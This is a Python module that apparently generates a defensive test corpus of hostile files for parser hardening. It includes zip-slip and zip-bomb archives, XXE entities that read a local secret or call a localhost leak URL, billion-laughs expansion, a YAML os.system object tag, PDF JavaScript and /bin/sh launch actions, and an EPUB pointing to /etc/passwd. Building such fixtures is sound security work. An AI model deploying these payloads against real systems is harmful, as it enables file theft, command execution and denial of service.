"""Files that attack their reader, each built here: nothing hostile is stored.

CASES holds, by the name of the file to write, the function that makes its bytes (or writes them, where they would be
too many to hold). SECRET must never come out of any; ADDRESS must never be called.
"""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

SECRET = "zirconium-heron"  # noqa: S105 - what the outside file holds, not a password
ADDRESS = "http://127.0.0.1:{port}/leak"
SPEECH = (
    "The delegates met in Astana and spoke about the rivers of the region. Делегаты говорили о реках. Өзендер туралы."
)

_XML = b"<a>" * 200_000
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_DOCUMENT_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    f'<Override PartName="/word/document.xml" ContentType="{_DOCUMENT_TYPE}"/></Types>'
)
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
_OPEN_DOCUMENT = "urn:oasis:names:tc:opendocument:xmlns:"


class Place:
    """What a case may point at: a file outside the corpus, and an address of this machine."""

    def __init__(self, secret: Path, port: int) -> None:
        self.secret = secret.as_uri()
        self.address = ADDRESS.format(port=port)


Maker = Callable[[Place], bytes]


# Packages


def packed(members: dict[str, bytes], *, method: int = ZIP_DEFLATED) -> bytes:
    """Return a ZIP archive of the members; names are taken as they are."""
    stream = io.BytesIO()
    with ZipFile(stream, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return stream.getvalue()


def docx(body: str, *, prolog: str = "", method: int = ZIP_STORED) -> bytes:
    """Return a Word document with this body."""
    document = f'<?xml version="1.0"?>{prolog}<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'
    members = {"[Content_Types].xml": _TYPES.encode(), "_rels/.rels": _RELATIONS.encode()}
    return packed({**members, "word/document.xml": document.encode()}, method=method)


def paragraph(text: str) -> str:
    """Return a paragraph of a Word document."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def odt(text: str, *, prolog: str = "") -> bytes:
    """Return an OpenDocument text with this paragraph."""
    content = (
        f'<?xml version="1.0"?>{prolog}<office:document-content xmlns:office="{_OPEN_DOCUMENT}office:1.0" '
        f'xmlns:text="{_OPEN_DOCUMENT}text:1.0" office:version="1.3"><office:body><office:text><text:p>{text}</text:p>'
        "</office:text></office:body></office:document-content>"
    )
    manifest = (
        f'<?xml version="1.0"?><manifest:manifest xmlns:manifest="{_OPEN_DOCUMENT}manifest:1.0" manifest:version="1.3">'
        '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
    )
    kind = b"application/vnd.oasis.opendocument.text"
    members = {"mimetype": kind, "content.xml": content.encode(), "META-INF/manifest.xml": manifest.encode()}
    return packed(members, method=ZIP_STORED)


def zip_slip(_: Place) -> bytes:
    return packed(
        {
            name: SPEECH.encode()
            for name in ("../../slipped.txt", "/slipped-absolute.txt", "..\\slipped-back.txt", "C:\\slipped.txt")
        }
    )


def zip_ratio(_: Place) -> bytes:
    return packed({"zeros.txt": bytes(100_000_000)})


def docx_ratio(_: Place) -> bytes:
    return docx(paragraph(" " * 100_000_000), method=ZIP_DEFLATED)


def zip_nested(_: Place) -> bytes:
    data = packed({"zeros.txt": bytes(10_000_000)})
    for depth in range(20):
        data = packed({f"{depth}-{copy}.zip": data for copy in range(3)}) if depth < 6 else packed({"one.zip": data})
    return data


def directory(count: int, declared: int) -> bytes:
    """Return an archive whose directory has so many entries for one member, and says that it has `declared`."""
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 33, 0, 0, 0, 5, 0) + b"a.txt"
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 0, 0, 5, 0, 0, 0, 0, 0, 0) + b"a.txt"
    size, start = len(entry) * count, len(local)
    end64 = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, declared, declared, size, start)
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, start + size, 1)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, size, start, 0)
    return local + entry * count + end64 + locator + end


def zip_overlapping(_: Place) -> bytes:
    """Members that share their bytes: little on disk, much when each is unpacked."""
    body = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = body.compress(bytes(20_000_000)) + body.flush()
    check = zlib.crc32(bytes(20_000_000))
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 33, check, len(data), 20_000_000, 5, 0) + b"a.txt"
    entries = b"".join(
        struct.pack(
            "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, check, len(data), 20_000_000, 5, 0, 0, 0, 0, 0, 0
        )
        + b"%05d" % number
        for number in range(1_000)
    )
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1_000, 1_000, len(entries), len(local) + len(data), 0)
    return local + data + entries + end


def zip_lying(_: Place) -> bytes:
    """A member that declares a few bytes and unfolds to many."""
    data = bytearray(packed({"small.txt": b" " * 50_000_000}))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<I", data, data.index(mark) + offset, 10)
    return bytes(data)


def epub(_: Place) -> bytes:
    """A book whose table of files leads out of it, and to itself."""
    container = (
        '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0"><rootfiles>'
        '<rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
    )
    book = (
        '<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><manifest>'
        '<item id="a" href="../../../../etc/passwd" media-type="application/xhtml+xml"/>'
        '<item id="b" href="book.opf" media-type="application/xhtml+xml"/></manifest>'
        '<spine><itemref idref="a"/><itemref idref="b"/><itemref idref="a"/></spine></package>'
    )
    return packed(
        {
            "mimetype": b"application/epub+zip",
            "META-INF/container.xml": container.encode(),
            "book.opf": book.encode(),
        },
        method=ZIP_STORED,
    )


# XML


def file_entity(place: Place) -> str:
    return f'<!DOCTYPE x [<!ENTITY leak SYSTEM "{place.secret}">]>'


def address_entity(place: Place) -> str:
    return f'<!DOCTYPE x [<!ENTITY leak SYSTEM "{place.address}">]>'


def parameter_entity(place: Place) -> str:
    return f'<!DOCTYPE x SYSTEM "{place.address}" [<!ENTITY % leak SYSTEM "{place.address}"> %leak;]>'


def laughs() -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY l0 "ha ha ha">{levels}]>'


def quadratic() -> str:
    return f'<!DOCTYPE x [<!ENTITY q "{"q" * 100_000}">]>'


def xhtml(body: str, *, prolog: str = "") -> bytes:
    page = f'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>T</title></head><body><p>{SPEECH}</p>{body}</body>'
    return f'<?xml version="1.0" encoding="UTF-8"?>{prolog}{page}</html>'.encode()


def svg(body: str) -> str:
    return f'<svg xmlns="http://www.w3.org/2000/svg"><text>{body}</text></svg>'


XML: dict[str, Maker] = {
    "xxe-file.docx": lambda p: docx(paragraph(f"{SPEECH} &leak;"), prolog=file_entity(p)),
    "xxe-http.docx": lambda p: docx(paragraph(f"{SPEECH} &leak;"), prolog=address_entity(p)),
    "xxe-parameter.docx": lambda p: docx(paragraph(SPEECH), prolog=parameter_entity(p)),
    "xxe-file.odt": lambda p: odt(f"{SPEECH} &leak;", prolog=file_entity(p)),
    "xxe-http.odt": lambda p: odt(f"{SPEECH} &leak;", prolog=address_entity(p)),
    "xxe-parameter.odt": lambda p: odt(SPEECH, prolog=parameter_entity(p)),
    "xxe-file.xhtml": lambda p: xhtml(f"<p>&leak;</p>{svg('&leak;')}", prolog=file_entity(p)),
    "xxe-http.xml": lambda p: xhtml(svg("&leak;"), prolog=address_entity(p)),
    "xxe-parameter.xml": lambda p: xhtml("", prolog=parameter_entity(p)),
    "laughs.docx": lambda _: docx(paragraph("&l9;"), prolog=laughs()),
    "laughs.odt": lambda _: odt("&l9;", prolog=laughs()),
    "laughs.xhtml": lambda _: xhtml("<p>&l9;</p>", prolog=laughs()),
    "quadratic.docx": lambda _: docx(paragraph("&q;" * 50_000), prolog=quadratic()),
    "quadratic.xhtml": lambda _: xhtml(f"<p>{'&q;' * 50_000}</p>", prolog=quadratic()),
    "deep.docx": lambda _: docx(
        "<w:sdt><w:sdtContent>" * 100_000 + paragraph("x") + "</w:sdtContent></w:sdt>" * 100_000
    ),
    "deep-tables.docx": lambda _: docx(
        "<w:tbl><w:tr><w:tc>" * 5_000 + paragraph(SPEECH) + "</w:tc></w:tr></w:tbl>" * 5_000
    ),
    "deep.odt": lambda _: odt("<text:span>" * 50_000 + "x" + "</text:span>" * 50_000),
    "deep.xml": lambda _: xhtml("<div>" * 100_000 + "x" + "</div>" * 100_000),
}


# Hypertext and other text


def html(body: str) -> bytes:
    return f"<!DOCTYPE html><html><head><title>T</title></head><body><p>{SPEECH}</p>{body}</body></html>".encode()


def eml(headers: str, body: str) -> bytes:
    return f"From: a@example.org\nDate: Mon, 6 May 2024 10:00:00 +0500\nMIME-Version: 1.0\n{headers}\n{body}".encode()


def nested_mail() -> bytes:
    opened = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(500))
    return eml(opened, f"\n{SPEECH}\n" + "".join(f"--b{n}--\n" for n in reversed(range(500))))


TEXT: dict[str, Maker] = {
    "deep.html": lambda _: html("<div>" * 200_000 + "x"),
    "deep-tables.html": lambda _: html("<table><tr><td>" * 20_000 + "x"),
    "deep-lists.html": lambda _: html("<ul><li>" * 20_000 + "x"),
    "unclosed.html": lambda _: html("<p><b><i>" * 15_000),
    "attributes.html": lambda _: html(f"<p {' '.join(f'a{n}=1' for n in range(40_000))}>x</p>"),
    "comments.html": lambda _: html("<!--" * 200_000),
    "comments-first.txt": lambda _: ("<!-- a --> " * 3_000 + SPEECH).encode(),
    "open-tags.html": lambda _: ("<p " * 300_000).encode(),
    "angles.html": lambda _: html("<" * 1_000_000),
    "script.html": lambda _: html(f"<script>document.title='{SECRET}'</script><p onclick='x()'>y</p>"),
    "deep-quotes.md": lambda _: (">" * 50_000 + " x\n\n" + SPEECH).encode(),
    "deep-lists.md": lambda _: "".join(f"{'  ' * n}- {n}\n" for n in range(1_500)).encode(),
    "brackets.md": lambda _: ("[" * 40_000 + "\n\n" + SPEECH).encode(),
    "emphasis.md": lambda _: ("*a_ " * 40_000 + "\n\n" + SPEECH).encode(),
    "backticks.md": lambda _: ("".join("`" * n + " " for n in range(1_500)) + SPEECH).encode(),
    "front-matter.md": lambda _: (
        "---\na: &a [x, x]\n" + "".join(f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)}, *{chr(97 + n)}]\n" for n in range(24))
        + f"title: *y\n---\n\n{SPEECH}\n"
    ).encode(),
    "front-matter-object.md": lambda _: f'---\ntitle: !!python/object/apply:os.system ["id"]\n---\n\n{SPEECH}\n'.encode(),
    "front-matter-deep.md": lambda _: f"---\ntitle: {'[' * 50_000}\n---\n\n{SPEECH}\n".encode(),
    "deep.json": lambda _: b"[" * 1_000_000,
    "deep.txt": lambda _: ("(" * 1_000_000 + "\n\n" + SPEECH).encode(),
    "deep.rtf": lambda _: b"{\\rtf1 " + b"{" * 500_000 + b"x" + b"}" * 500_001,
    "binary.rtf": lambda _: b"{\\rtf1 \\bin2000000000 x}",
    "numbers.rtf": lambda _: b"{\\rtf1 \\u99999999999999999999 \\'zz \\fs" + b"9" * 5_000 + b" text}",
    "wide.csv": lambda _: (",".join(["a"] * 200_000) + "\n" + ",".join(["b"] * 200_000) + "\n").encode(),
    "quotes.csv": lambda _: b'name,room\n"' + b"x" * 5_000_000,
    "nested.eml": lambda _: nested_mail(),
    "references.eml": lambda _: eml("Subject: " + "=?utf-8?q?a?= " * 10_000 + "\n", SPEECH),
    "headers.eml": lambda _: eml("".join(f"X-{n}: y\n" for n in range(100_000)), SPEECH),
    "slip.eml": lambda _: eml(
        'Content-Type: application/octet-stream; name="../../slipped.txt"\n'
        'Content-Disposition: attachment; filename="../../slipped.txt"\n', SPEECH
    ),
    "deep.ics": lambda _: b"BEGIN:VCALENDAR\n" + b"BEGIN:VEVENT\n" * 100_000,
    "for-ever.ics": lambda _: (
        b"BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:x\nBEGIN:VEVENT\nUID:1\nDTSTART:00010101T000000Z\nDTEND:99991231T235959Z\n"
        b"RRULE:FREQ=SECONDLY\nSUMMARY:Opening of the forum\nEND:VEVENT\nEND:VCALENDAR\n"
    ),
    "times.vtt": lambda _: (
        "WEBVTT\n\n00:10.000 --> 00:05.000\nBackwards in time.\n\n999999999999:59:59.999 --> 9999999999999:00:00.000\nFar away.\n\n"
        f"00:00.000 --> 00:01.000\n{SPEECH}\n"
    ).encode(),
    "times.srt": lambda _: (
        f"1\n00:00:09,000 --> 00:00:01,000\nBackwards.\n\n2\n{'9' * 400}:00:00,000 --> {'9' * 400}:00:00,000\nFar.\n\n"
        f"99999999999999999999\n00:00:10,000 --> 00:00:12,000\n{SPEECH}\n"
    ).encode(),
    "voices.vtt": lambda _: ("WEBVTT\n\n00:00.000 --> 00:01.000\n" + "<v A>" * 100_000 + SPEECH).encode(),
    "utf-7.txt": lambda _: b"+ADw-script+AD4-alert(1)+ADw-/script+AD4- " + SPEECH.encode(),
    "utf-7.html": lambda _: b'<html><head><meta charset="utf-7"></head><body><p>+ADw-script+AD4-x</p></body></html>',
    "surrogates.txt": lambda _: b"\xed\xa0\x80 \xed\xbf\xbf " + SPEECH.encode(),
    "surrogates.html": lambda _: html("<p>&#xD800;&#xDFFF;&#x110000;&#0;</p>"),
    "surrogates.md": lambda _: f"# T &#xD800;\n\n{SPEECH}\n".encode(),
    "wrong-mark.txt": lambda _: b"\xff\xfe" + SPEECH.encode(),
    "half-mark.txt": lambda _: SPEECH.encode("utf-16")[:-1],
    "utf-32.txt": lambda _: SPEECH.encode("utf-32"),
    "nul.txt": lambda _: SPEECH.encode().replace(b" ", b"\x00 "),
    "combining.txt": lambda _: ("e" + "\u0301" * 1_000_000 + "\n\n" + SPEECH).encode(),
    "overrides.txt": lambda _: ("\u202egnirts desrever\u202c \u2066x\u2069 " * 10_000 + SPEECH).encode(),
    "invisible.txt": lambda _: ("".join(f"{letter}\u200b\u2060\U000e0041" for letter in SPEECH) + "\n\n" + SPEECH).encode(),
    "one-word.txt": lambda _: b"a" * 15_000_000,
    "one-line.txt": lambda _: b"Words and words. " * 600_000,
    "blanks.txt": lambda _: (" " * 5_000_000 + "\n" * 5_000_000 + SPEECH).encode(),
    "dashes.txt": lambda _: ("- " * 2_000_000 + SPEECH).encode(),
    "digits.txt": lambda _: ("1." * 1_000_000 + " " + SPEECH).encode(),
    "turns.txt": lambda _: ("A:" * 500_000 + SPEECH).encode(),
    "headers.txt": lambda _: ("a: b\n" * 60_000 + SPEECH).encode(),
    "tags.txt": lambda _: ("<p" * 500_000 + SPEECH).encode(),
    "dates.txt": lambda _: ("99 May 99999 31.02.2024 " * 50_000 + SPEECH).encode(),
}  # fmt: skip


# PDF


def pdf(*objects: bytes, root: int = 1, trailer: bytes = b"") -> bytes:
    """Return a PDF of these objects, numbered from 1, with a true table of where they stand."""
    data, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, table)
    end = b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1, root, trailer, len(data),
    )  # fmt: skip
    return data + head + end


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def page_objects(content: bytes, *, box: bytes = b"[0 0 595 842]", filters: bytes = b"") -> list[bytes]:
    """Return the objects of a document of one page."""
    return [
        CATALOG,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> >>" % box,
        b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), filters, content),
        FONT,
    ]


WORDS = b"BT /F 12 Tf 72 720 Td (The delegates met in Astana and spoke about rivers.) Tj ET"


def layered(data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


PDF: dict[str, Maker] = {
    "page-cycle.pdf": lambda _: pdf(
        CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"
    ),
    "own-parent.pdf": lambda _: pdf(CATALOG, b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 2 0 R] /Count 2 >>"),
    "million-pages.pdf": lambda _: pdf(
        CATALOG, b"<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>", *page_objects(WORDS)[2:]
    ),
    "same-page.pdf": lambda _: pdf(
        CATALOG, b"<< /Type /Pages /Kids [%s] /Count 6000 >>" % (b"3 0 R " * 6_000), *page_objects(WORDS)[2:]
    ),
    "huge-page.pdf": lambda _: pdf(*page_objects(WORDS, box=b"[0 0 14400000 14400000]")),
    "no-page.pdf": lambda _: pdf(*page_objects(WORDS, box=b"[0 0 1e38 -1e38]")),
    "bomb.pdf": lambda _: pdf(
        *page_objects(layered(bytes(100_000_000), 3), filters=b"/Filter [/FlateDecode /FlateDecode /FlateDecode]")
    ),
    "filters.pdf": lambda _: pdf(*page_objects(WORDS, filters=b"/Filter [%s]" % (b"/ASCIIHexDecode " * 10_000))),
    "own-length.pdf": lambda _: pdf(
        *page_objects(WORDS)[:3], b"<< /Length 4 0 R >>\nstream\n%s\nendstream" % WORDS, FONT
    ),
    "huge-length.pdf": lambda _: pdf(
        *page_objects(WORDS)[:3], b"<< /Length 99999999999 >>\nstream\n%s\nendstream" % WORDS, FONT
    ),
    "object-stream.pdf": lambda _: pdf(
        *page_objects(WORDS),
        b"<< /Type /ObjStm /N 1000000 /First 10 /Extends 6 0 R /Length 9 >>\nstream\n6 0 7 0 6\nendstream",
    ),
    "previous-table.pdf": lambda _: pdf(*page_objects(WORDS), trailer=b"/Prev 9"),
    "huge-size.pdf": lambda _: pdf(*page_objects(WORDS)).replace(b"/Size 6", b"/Size 2147483647"),
    "deep.pdf": lambda _: pdf(*page_objects(WORDS), b"[" * 500_000),
    "deep-names.pdf": lambda _: pdf(
        CATALOG.replace(b">>", b"/PageLabels 6 0 R >>"), *page_objects(WORDS)[1:], b"<< /Kids [6 0 R 6 0 R] >>"
    ),
    "outline-cycle.pdf": lambda _: pdf(
        CATALOG.replace(b">>", b"/Outlines 6 0 R >>"),
        *page_objects(WORDS)[1:],
        b"<< /First 7 0 R /Last 7 0 R /Count 9 >>",
        b"<< /Title (Round) /Parent 6 0 R /Next 7 0 R /First 6 0 R >>",
    ),
    "form-cycle.pdf": lambda _: pdf(
        *page_objects(b"/X Do " + WORDS)[:2],
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F 5 0 R >> /XObject << /X 6 0 R >> >> >>",
        page_objects(b"/X Do " + WORDS)[3],
        FONT,
        b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >> /Length 11 >>\n"
        b"stream\n/X Do /X Do\nendstream",
    ),
    "operators.pdf": lambda _: pdf(*page_objects(b"q " * 2_000_000 + WORDS)),
    "letters.pdf": lambda _: pdf(
        *page_objects(zlib.compress(b"BT /F 1 Tf " + b"1 1 Td (a) Tj " * 100_000 + b"ET"), filters=b"/Filter /FlateDecode")
    ),
    "far-letters.pdf": lambda _: pdf(*page_objects(WORDS.replace(b"72 720 Td", b"1e30 -1e30 Td") + b" " + WORDS)),
    "picture.pdf": lambda _: pdf(
        *page_objects(b"/X Do")[:2],
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 6 0 R >> >> >>",
        page_objects(b"500 0 0 700 0 0 cm /X Do")[3],
        FONT,
        b"<< /Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
        b"/Filter /FlateDecode /Length 12 >>\nstream\n%s\nendstream" % zlib.compress(b"aaaa"),
    ),
    "script.pdf": lambda place: pdf(
        CATALOG.replace(
            b">>", b"/OpenAction << /S /JavaScript /JS (app.launchURL\\('%s'\\);) >> >>" % place.address.encode()
        ),
        *page_objects(WORDS)[1:],
    ),
    "launch.pdf": lambda _: pdf(
        CATALOG.replace(b">>", b"/OpenAction << /S /Launch /F (/bin/sh) >> >>"), *page_objects(WORDS)[1:]
    ),
    "encrypted.pdf": lambda _: pdf(
        *page_objects(WORDS),
        b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <%s> /U <%s> >>" % (b"a1" * 32, b"b2" * 32),
        trailer=b"/Encrypt 6 0 R /ID [<00><00>]",
    ),
    "endless.pdf": lambda _: b"%PDF-1.7\n" + b"1 0 obj\n" * 500_000,
    "empty-table.pdf": lambda _: b"%PDF-1.7\nxref\n0 4294967295\ntrailer\n<<>>\nstartxref\n9\n%%EOF",
}  # fmt: skip


# Pictures


def png(width: int, height: int, data: bytes = b"") -> bytes:
    """Return a PNG that declares this size, whatever it holds."""

    def piece(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = struct.pack(">2I5B", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + piece(b"IHDR", head) + piece(b"IDAT", zlib.compress(data)) + piece(b"IEND", b"")


def tiff(width: int, height: int, *, following: int = 0) -> bytes:
    """Return a TIFF that declares this size; `following` is where it says that its next page stands."""
    entries = ((256, width), (257, height), (258, 8), (259, 1), (262, 1), (273, 200), (277, 1), (278, height), (279, 4))
    table = b"".join(struct.pack("<2H2I", tag, 4, 1, value) for tag, value in entries)
    return (b"II*\x00\x08\x00\x00\x00" + struct.pack("<H", len(entries)) + table + struct.pack("<I", following)).ljust(
        300
    )


def described_png() -> bytes:
    """A small picture with a description that unfolds to very much."""
    plain = png(1, 1, b"\x00\x00\x00\x00")
    body = b"Comment\x00\x00" + zlib.compress(bytes(200_000_000))
    piece = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    return plain[:33] + piece + plain[33:]


PICTURES: dict[str, Maker] = {
    "huge.png": lambda _: png(100_000, 100_000),
    "huge-zeros.png": lambda _: png(30_000, 30_000, bytes(100_000_000)),
    "huge.tiff": lambda _: tiff(100_000, 100_000),
    "round.tiff": lambda _: tiff(10, 10, following=8),
    "huge.jpg": lambda _: (
        b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x11\x00\x02\x11\x00\x03\x11\x00\xff\xd9"
    ),
    "description.png": lambda _: described_png(),
}

PACKAGES: dict[str, Maker] = {
    "slip.zip": zip_slip,
    "ratio.zip": zip_ratio,
    "ratio.docx": docx_ratio,
    "nested.zip": zip_nested,
    "members.zip": lambda _: directory(1_000_000, 1_000_000),
    "more-members.zip": lambda _: directory(300_000, 5),
    "overlapping.zip": zip_overlapping,
    "lying.zip": zip_lying,
    "lying.docx": zip_lying,
    "roundabout.epub": epub,
    "truncated.zip": lambda p: zip_slip(p)[:60],
    "deep.xlsx": lambda _: packed({"[Content_Types].xml": _TYPES.encode(), "xl/workbook.xml": _XML}, method=ZIP_STORED),
    "deep.pptx": lambda _: packed(
        {"[Content_Types].xml": _TYPES.encode(), "ppt/presentation.xml": _XML}, method=ZIP_STORED
    ),
}

OLE_HEAD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + b"\x3e\x00\x03\x00\xfe\xff\x09\x00\x06\x00" + bytes(6)
COMPOUND: dict[str, Maker] = {
    "cycle.msg": lambda _: OLE_HEAD + struct.pack("<13I", 1, 0, 0, 4096, 0, 1, 0, 0, 0, 0, 0, 0, 0) + bytes(5_000),
    "huge.msg": lambda _: OLE_HEAD + b"\xff\xff\xff\x7f" * 2_000,
}

CASES: dict[str, Maker] = {**PACKAGES, **XML, **TEXT, **PDF, **PICTURES, **COMPOUND}
